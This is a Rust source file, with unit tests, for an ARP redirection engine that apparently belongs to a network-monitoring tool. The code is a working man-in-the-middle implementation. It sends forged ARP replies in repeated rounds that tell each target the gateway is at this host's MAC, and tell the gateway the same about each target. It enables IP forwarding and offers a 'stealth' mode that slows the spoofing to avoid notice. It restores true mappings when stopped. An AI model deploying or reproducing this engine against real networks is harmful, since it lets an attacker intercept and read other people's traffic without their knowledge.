//! ARP redirection engine.
//!
//! One dedicated thread owns every ARP frame the monitor sends. Each round
//! it tells every active target that the gateway's IP is at our MAC, and
//! the gateway that each target's IP is at our MAC, so traffic in both
//! directions traverses this host. Removing a target (or stopping) sends at
//! least three restorative replies in each direction, paced ≥50 ms apart,
//! carrying the true mappings.

use super::arp::{self, FrameSender};
use super::hostops::HostOps;
use super::iface::{Interface, NetError};
use crate::events::{Event, EventSink};
use crate::types::now;
use pnet::util::MacAddr;
use serde_json::json;
use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::mpsc::{self, RecvTimeoutError, SyncSender};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};
use thiserror::Error;
use tracing::{debug, info, warn};

/// Restorative replies per direction on removal.
const RESTORE_COUNT: usize = 3;
/// Pacing between restorative rounds.
const RESTORE_PACE: Duration = Duration::from_millis(60);
/// Consecutive send failures before a spoof_error event.
const FAILURE_THRESHOLD: u32 = 3;

#[derive(Debug, Error)]
pub enum ArpEngineError {
    #[error("could not resolve MAC for {0}")]
    NoMac(Ipv4Addr),
    #[error("gateway unreachable: {0}")]
    GatewayUnreachable(#[from] NetError),
    #[error("engine is not running")]
    NotRunning,
    #[error("host ops failed: {0}")]
    HostOps(#[from] std::io::Error),
}

/// A device under redirection.
#[derive(Debug, Clone)]
pub struct ArpTarget {
    pub ip: Ipv4Addr,
    pub mac: MacAddr,
    pub hostname: Option<String>,
    pub active: bool,
    /// Unix seconds of the last poison round that included this target.
    pub last_poison: u64,
    failures: u32,
}

impl ArpTarget {
    fn new(ip: Ipv4Addr, mac: MacAddr, hostname: Option<String>) -> Self {
        Self {
            ip,
            mac,
            hostname,
            active: true,
            last_poison: 0,
            failures: 0,
        }
    }
}

enum Cmd {
    Add(ArpTarget),
    Remove(Ipv4Addr, SyncSender<()>),
    Stop(SyncSender<()>),
}

/// The engine. `start` resolves the gateway and launches the poison thread;
/// `stop` restores every target before returning.
pub struct ArpEngine {
    iface: Interface,
    hostops: Arc<dyn HostOps>,
    sink: EventSink,
    /// Seconds between poison rounds.
    interval: Arc<AtomicU64>,
    targets: Arc<Mutex<HashMap<Ipv4Addr, ArpTarget>>>,
    cmd_tx: Mutex<Option<mpsc::Sender<Cmd>>>,
    thread: Mutex<Option<JoinHandle<()>>>,
    gateway_mac: Mutex<Option<MacAddr>>,
    prior_forwarding: Mutex<Option<bool>>,
}

impl ArpEngine {
    pub fn new(
        iface: Interface,
        hostops: Arc<dyn HostOps>,
        sink: EventSink,
        interval_secs: u64,
    ) -> Self {
        Self {
            iface,
            hostops,
            sink,
            interval: Arc::new(AtomicU64::new(interval_secs.max(1))),
            targets: Arc::new(Mutex::new(HashMap::new())),
            cmd_tx: Mutex::new(None),
            thread: Mutex::new(None),
            gateway_mac: Mutex::new(None),
            prior_forwarding: Mutex::new(None),
        }
    }

    /// Resolve the gateway, enable forwarding, and start poisoning.
    pub async fn start(&self) -> Result<(), ArpEngineError> {
        let iface = self.iface.clone();
        let gateway_ip = iface.gateway_ip;
        let gateway_mac =
            tokio::task::spawn_blocking(move || arp::resolve_mac(&iface, gateway_ip))
                .await
                .expect("resolver task panicked")?;

        let (tx, _rx) = arp::open_channel(&self.iface)?;
        self.start_with_sender(gateway_mac, Box::new(arp::DatalinkSender(tx)))
    }

    /// Start the poison thread with an explicit gateway MAC and frame sink.
    /// `start` uses the real channel; tests substitute a recorder.
    pub fn start_with_sender(
        &self,
        gateway_mac: MacAddr,
        sender: Box<dyn FrameSender>,
    ) -> Result<(), ArpEngineError> {
        let prior = self.hostops.enable_ip_forwarding()?;
        *self.prior_forwarding.lock().unwrap() = Some(prior);
        *self.gateway_mac.lock().unwrap() = Some(gateway_mac);

        let (cmd_tx, cmd_rx) = mpsc::channel();
        *self.cmd_tx.lock().unwrap() = Some(cmd_tx);

        let loop_state = PoisonLoop {
            our_mac: self.iface.mac,
            gateway_ip: self.iface.gateway_ip,
            gateway_mac,
            interval: self.interval.clone(),
            targets: self.targets.clone(),
            sink: self.sink.clone(),
        };
        let handle = std::thread::Builder::new()
            .name("arp-engine".to_string())
            .spawn(move || loop_state.run(sender, cmd_rx))
            .map_err(ArpEngineError::HostOps)?;
        *self.thread.lock().unwrap() = Some(handle);

        let mut detail = serde_json::Map::new();
        detail.insert("interface".to_string(), json!(self.iface.name));
        detail.insert("gateway_ip".to_string(), json!(self.iface.gateway_ip.to_string()));
        detail.insert("gateway_mac".to_string(), json!(gateway_mac.to_string()));
        detail.insert("our_mac".to_string(), json!(self.iface.mac.to_string()));
        detail.insert(
            "spoof_interval".to_string(),
            json!(self.interval.load(Ordering::Relaxed)),
        );
        self.sink.emit(Event::Started {
            component: "arp_engine".to_string(),
            detail,
        });
        info!(
            "ARP engine started on {} (gateway {} at {})",
            self.iface.name, self.iface.gateway_ip, gateway_mac
        );
        Ok(())
    }

    /// Resolve the target's MAC and begin poisoning it.
    pub async fn add_target(
        &self,
        ip: Ipv4Addr,
        hostname: Option<String>,
    ) -> Result<ArpTarget, ArpEngineError> {
        let iface = self.iface.clone();
        let mac = tokio::task::spawn_blocking(move || arp::resolve_mac(&iface, ip))
            .await
            .expect("resolver task panicked")
            .map_err(|_| ArpEngineError::NoMac(ip))?;
        self.add_target_with_mac(ip, mac, hostname)
    }

    /// Add a target whose link-layer address is already known.
    pub fn add_target_with_mac(
        &self,
        ip: Ipv4Addr,
        mac: MacAddr,
        hostname: Option<String>,
    ) -> Result<ArpTarget, ArpEngineError> {
        let target = ArpTarget::new(ip, mac, hostname.clone());
        let tx = self.cmd_tx.lock().unwrap();
        let tx = tx.as_ref().ok_or(ArpEngineError::NotRunning)?;
        tx.send(Cmd::Add(target.clone()))
            .map_err(|_| ArpEngineError::NotRunning)?;
        self.sink.emit(Event::TargetAdded {
            ip: ip.to_string(),
            mac: crate::types::canonical_mac(&mac.to_string()),
            hostname,
        });
        Ok(target)
    }

    /// Deactivate a target. The engine thread restores the true mappings
    /// before this returns (bounded to 2 s).
    pub fn remove_target(&self, ip: Ipv4Addr) -> Result<(), ArpEngineError> {
        let (done_tx, done_rx) = mpsc::sync_channel(1);
        {
            let tx = self.cmd_tx.lock().unwrap();
            let tx = tx.as_ref().ok_or(ArpEngineError::NotRunning)?;
            tx.send(Cmd::Remove(ip, done_tx))
                .map_err(|_| ArpEngineError::NotRunning)?;
        }
        if done_rx.recv_timeout(Duration::from_secs(2)).is_err() {
            warn!("restore for {} did not confirm in time", ip);
        }
        self.sink.emit(Event::TargetRemoved { ip: ip.to_string() });
        Ok(())
    }

    /// Toggle stealth cadence: aggressive is 2 s, stealth at least 15 s.
    pub fn set_stealth(&self, enabled: bool, interval_secs: u64) {
        let effective = if enabled { interval_secs.max(15) } else { 2 };
        self.interval.store(effective, Ordering::Relaxed);
        let mut detail = serde_json::Map::new();
        detail.insert("quiet_mode".to_string(), json!(enabled));
        detail.insert("spoof_interval".to_string(), json!(effective));
        self.sink.emit(Event::ConfigUpdate {
            action: "set_quiet".to_string(),
            detail,
        });
    }

    /// Stop poisoning. Restores every active target (bounded to 2 s per
    /// target) and puts IP forwarding back.
    pub fn stop(&self) {
        let restored: Vec<String> = self
            .targets
            .lock()
            .unwrap()
            .keys()
            .map(|ip| ip.to_string())
            .collect();

        if let Some(tx) = self.cmd_tx.lock().unwrap().take() {
            let (done_tx, done_rx) = mpsc::sync_channel(1);
            let budget = Duration::from_secs(2) * (restored.len().max(1) as u32);
            if tx.send(Cmd::Stop(done_tx)).is_ok()
                && done_rx.recv_timeout(budget).is_err()
            {
                warn!("ARP restore did not confirm within {:?}", budget);
            }
        }
        if let Some(handle) = self.thread.lock().unwrap().take() {
            let _ = handle.join();
        }
        if let Some(prior) = self.prior_forwarding.lock().unwrap().take() {
            if let Err(e) = self.hostops.restore_ip_forwarding(prior) {
                warn!("failed to restore IP forwarding: {}", e);
            }
        }

        let mut detail = serde_json::Map::new();
        detail.insert("restored_targets".to_string(), json!(restored));
        self.sink.emit(Event::Stopped {
            component: "arp_engine".to_string(),
            detail,
        });
        info!("ARP engine stopped");
    }

    pub fn targets(&self) -> Vec<ArpTarget> {
        self.targets.lock().unwrap().values().cloned().collect()
    }

    pub fn is_running(&self) -> bool {
        self.cmd_tx.lock().unwrap().is_some()
    }
}

/// State moved onto the poison thread.
struct PoisonLoop {
    our_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    gateway_mac: MacAddr,
    interval: Arc<AtomicU64>,
    targets: Arc<Mutex<HashMap<Ipv4Addr, ArpTarget>>>,
    sink: EventSink,
}

impl PoisonLoop {
    fn run(self, mut sender: Box<dyn FrameSender>, cmd_rx: mpsc::Receiver<Cmd>) {
        let mut next_round = Instant::now();
        loop {
            let timeout = next_round.saturating_duration_since(Instant::now());
            match cmd_rx.recv_timeout(timeout) {
                Ok(Cmd::Add(target)) => {
                    debug!("poisoning new target {}", target.ip);
                    self.targets.lock().unwrap().insert(target.ip, target);
                    // Poison immediately rather than waiting out the round.
                    next_round = Instant::now();
                }
                Ok(Cmd::Remove(ip, done)) => {
                    let removed = self.targets.lock().unwrap().remove(&ip);
                    if let Some(target) = removed {
                        self.restore(&mut *sender, &target);
                    }
                    let _ = done.send(());
                }
                Ok(Cmd::Stop(done)) => {
                    let drained: Vec<ArpTarget> =
                        self.targets.lock().unwrap().drain().map(|(_, t)| t).collect();
                    for target in &drained {
                        self.restore(&mut *sender, target);
                    }
                    let _ = done.send(());
                    return;
                }
                Err(RecvTimeoutError::Timeout) => {
                    self.poison_round(&mut *sender);
                    let secs = self.interval.load(Ordering::Relaxed).max(1);
                    next_round = Instant::now() + Duration::from_secs(secs);
                }
                Err(RecvTimeoutError::Disconnected) => {
                    // Engine dropped without stop(): emergency restore.
                    let drained: Vec<ArpTarget> =
                        self.targets.lock().unwrap().drain().map(|(_, t)| t).collect();
                    for target in &drained {
                        self.restore(&mut *sender, target);
                    }
                    return;
                }
            }
        }
    }

    /// One poison round: two unsolicited replies per active target.
    fn poison_round(&self, sender: &mut dyn FrameSender) {
        let mut targets = self.targets.lock().unwrap();
        for target in targets.values_mut().filter(|t| t.active) {
            // To the target: "gateway_ip is at our_mac".
            let to_target =
                arp::build_arp_reply(target.mac, target.ip, self.gateway_ip, self.our_mac);
            // To the gateway: "target_ip is at our_mac".
            let to_gateway =
                arp::build_arp_reply(self.gateway_mac, self.gateway_ip, target.ip, self.our_mac);

            let result = sender
                .send_frame(&to_target)
                .and_then(|_| sender.send_frame(&to_gateway));
            match result {
                Ok(()) => {
                    target.failures = 0;
                    target.last_poison = now();
                }
                Err(e) => {
                    target.failures += 1;
                    if target.failures >= FAILURE_THRESHOLD {
                        self.sink.emit(Event::SpoofError {
                            ip: target.ip.to_string(),
                            error: e.to_string(),
                        });
                        target.failures = 0;
                    }
                }
            }
        }
    }

    /// Re-assert the true mappings in both directions, paced.
    fn restore(&self, sender: &mut dyn FrameSender, target: &ArpTarget) {
        debug!("restoring ARP state for {}", target.ip);
        for round in 0..RESTORE_COUNT {
            // To the target: the gateway's real MAC.
            let to_target = arp::build_arp_reply(
                target.mac,
                target.ip,
                self.gateway_ip,
                self.gateway_mac,
            );
            // To the gateway: the target's real MAC.
            let to_gateway =
                arp::build_arp_reply(self.gateway_mac, self.gateway_ip, target.ip, target.mac);
            if let Err(e) = sender
                .send_frame(&to_target)
                .and_then(|_| sender.send_frame(&to_gateway))
            {
                warn!("restore send for {} failed: {}", target.ip, e);
            }
            if round + 1 < RESTORE_COUNT {
                std::thread::sleep(RESTORE_PACE);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::net::arp::parse_arp;
    use crate::net::hostops::MockHostOps;
    use pnet::packet::arp::ArpOperations;

    const OUR_MAC: MacAddr = MacAddr(0xde, 0xad, 0xbe, 0xef, 0x00, 0x01);
    const GW_MAC: MacAddr = MacAddr(0xcc, 0xdd, 0x00, 0x00, 0x00, 0x22);
    const TARGET_MAC: MacAddr = MacAddr(0xaa, 0xbb, 0x00, 0x00, 0x00, 0x11);

    #[derive(Clone, Default)]
    struct Recorder(Arc<Mutex<Vec<Vec<u8>>>>);

    impl FrameSender for Recorder {
        fn send_frame(&mut self, frame: &[u8]) -> std::io::Result<()> {
            self.0.lock().unwrap().push(frame.to_vec());
            Ok(())
        }
    }

    fn test_iface() -> Interface {
        Interface {
            name: "test0".to_string(),
            mac: OUR_MAC,
            ip: Ipv4Addr::new(192, 168, 1, 10),
            netmask: Ipv4Addr::new(255, 255, 255, 0),
            gateway_ip: Ipv4Addr::new(192, 168, 1, 1),
        }
    }

    fn engine_with_recorder() -> (ArpEngine, Recorder, Arc<MockHostOps>) {
        let hostops = Arc::new(MockHostOps::default());
        let engine = ArpEngine::new(test_iface(), hostops.clone(), EventSink::new(), 1);
        let recorder = Recorder::default();
        engine
            .start_with_sender(GW_MAC, Box::new(recorder.clone()))
            .unwrap();
        (engine, recorder, hostops)
    }

    #[test]
    fn test_poison_frames_carry_the_lie() {
        let (engine, recorder, _) = engine_with_recorder();
        let target_ip = Ipv4Addr::new(192, 168, 1, 77);
        engine
            .add_target_with_mac(target_ip, TARGET_MAC, None)
            .unwrap();
        // Adding triggers an immediate round.
        std::thread::sleep(Duration::from_millis(200));

        let frames = recorder.0.lock().unwrap();
        let parsed: Vec<_> = frames.iter().filter_map(|f| parse_arp(f)).collect();
        assert!(parsed.len() >= 2, "expected a poison round, got {}", parsed.len());

        // To the target: gateway_ip is-at our mac.
        assert!(parsed.iter().any(|a| {
            a.operation == ArpOperations::Reply
                && a.target_ip == target_ip
                && a.sender_ip == Ipv4Addr::new(192, 168, 1, 1)
                && a.sender_mac == OUR_MAC
        }));
        // To the gateway: target_ip is-at our mac.
        assert!(parsed.iter().any(|a| {
            a.operation == ArpOperations::Reply
                && a.target_ip == Ipv4Addr::new(192, 168, 1, 1)
                && a.sender_ip == target_ip
                && a.sender_mac == OUR_MAC
        }));
        drop(frames);
        engine.stop();
    }

    #[test]
    fn test_remove_target_sends_restorative_replies() {
        let (engine, recorder, _) = engine_with_recorder();
        let target_ip = Ipv4Addr::new(192, 168, 1, 77);
        engine
            .add_target_with_mac(target_ip, TARGET_MAC, None)
            .unwrap();
        std::thread::sleep(Duration::from_millis(100));
        recorder.0.lock().unwrap().clear();

        engine.remove_target(target_ip).unwrap();

        let frames = recorder.0.lock().unwrap();
        let parsed: Vec<_> = frames.iter().filter_map(|f| parse_arp(f)).collect();

        // ≥3 replies to the target asserting the gateway's true MAC.
        let to_target = parsed
            .iter()
            .filter(|a| {
                a.target_ip == target_ip
                    && a.sender_ip == Ipv4Addr::new(192, 168, 1, 1)
                    && a.sender_mac == GW_MAC
            })
            .count();
        // ≥3 replies to the gateway asserting the target's true MAC.
        let to_gateway = parsed
            .iter()
            .filter(|a| {
                a.target_ip == Ipv4Addr::new(192, 168, 1, 1)
                    && a.sender_ip == target_ip
                    && a.sender_mac == TARGET_MAC
            })
            .count();
        assert!(to_target >= 3, "got {to_target} restore frames to target");
        assert!(to_gateway >= 3, "got {to_gateway} restore frames to gateway");
        drop(frames);
        engine.stop();
        assert!(engine.targets().is_empty());
    }

    #[test]
    fn test_stop_restores_all_targets_and_forwarding() {
        let (engine, recorder, hostops) = engine_with_recorder();
        assert!(hostops.forwarding.load(std::sync::atomic::Ordering::SeqCst));

        let a = Ipv4Addr::new(192, 168, 1, 50);
        let b = Ipv4Addr::new(192, 168, 1, 51);
        engine.add_target_with_mac(a, TARGET_MAC, None).unwrap();
        engine
            .add_target_with_mac(b, MacAddr(0xaa, 0xbb, 0, 0, 0, 0x12), None)
            .unwrap();
        std::thread::sleep(Duration::from_millis(100));
        recorder.0.lock().unwrap().clear();

        engine.stop();

        let frames = recorder.0.lock().unwrap();
        let parsed: Vec<_> = frames.iter().filter_map(|f| parse_arp(f)).collect();
        for ip in [a, b] {
            let restores = parsed
                .iter()
                .filter(|f| f.target_ip == ip && f.sender_mac == GW_MAC)
                .count();
            assert!(restores >= 3, "target {ip} got {restores} restore frames");
        }
        // Forwarding back to its prior (off) state.
        assert!(!hostops.forwarding.load(std::sync::atomic::Ordering::SeqCst));
        assert!(!engine.is_running());
    }

    #[test]
    fn test_stealth_interval_floor() {
        let (engine, _, _) = engine_with_recorder();
        engine.set_stealth(true, 5);
        assert_eq!(engine.interval.load(Ordering::Relaxed), 15);
        engine.set_stealth(false, 99);
        assert_eq!(engine.interval.load(Ordering::Relaxed), 2);
        engine.stop();
    }

    #[test]
    fn test_add_requires_running_engine() {
        let engine = ArpEngine::new(
            test_iface(),
            Arc::new(MockHostOps::default()),
            EventSink::new(),
            1,
        );
        let err = engine
            .add_target_with_mac(Ipv4Addr::new(192, 168, 1, 77), TARGET_MAC, None)
            .unwrap_err();
        assert!(matches!(err, ArpEngineError::NotRunning));
    }
}
